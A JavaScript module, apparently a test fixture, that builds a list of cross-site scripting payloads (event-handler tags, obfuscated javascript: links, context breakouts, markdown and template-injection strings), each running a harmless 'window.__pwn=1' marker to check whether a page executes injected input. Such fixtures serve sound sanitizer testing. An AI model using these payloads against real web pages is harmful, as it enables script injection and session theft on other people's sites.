/** Texts that run `window.__pwn = 1` where a page takes them for HTML, a link or a template. */
const SCRIPT = 'window.__pwn=1'
const ENCODED = '&#119;indow.__pwn=1'

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
  'a href=#',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  'vbscript:',
]
/** Endings of the contexts that a value is written into. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</style>', '</title>', '</textarea>', '-->', ']]>', '`']

const handlers = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${SCRIPT}>`))
const links = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}${SCRIPT}">x</a>`,
  `[x](${scheme}${SCRIPT})`,
  `![x](${scheme}${SCRIPT})`,
  `<${scheme}${SCRIPT}>`,
])
const scripts = BREAKOUTS.flatMap((end) => [
  `${end}<script>${SCRIPT}</script>`,
  `${end}<svg><script>${SCRIPT}</script>`,
])
const others = [
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>">`,
  `<iframe src="javascript:parent.${SCRIPT}">`,
  `<object data="data:text/html,<script>${SCRIPT}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<svg><animate attributeName=href values=javascript:${SCRIPT} />`,
  `<img src=x onerror="${ENCODED}">`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<form><button formaction="javascript:${SCRIPT}">x`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href="javascript:${SCRIPT}//">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${SCRIPT})}">`,
  `[x]: javascript:${SCRIPT}\n[x]`,
  `![x](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
  `\${${SCRIPT}}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `"-(${SCRIPT})-"`,
  `'-(${SCRIPT})-'`,
  `\u2028${SCRIPT}//`,
  `%3Cscript%3E${SCRIPT}%3C/script%3E`,
]

export const SCRIPT_PAYLOADS: readonly string[] = [...handlers, ...links, ...scripts, ...others]
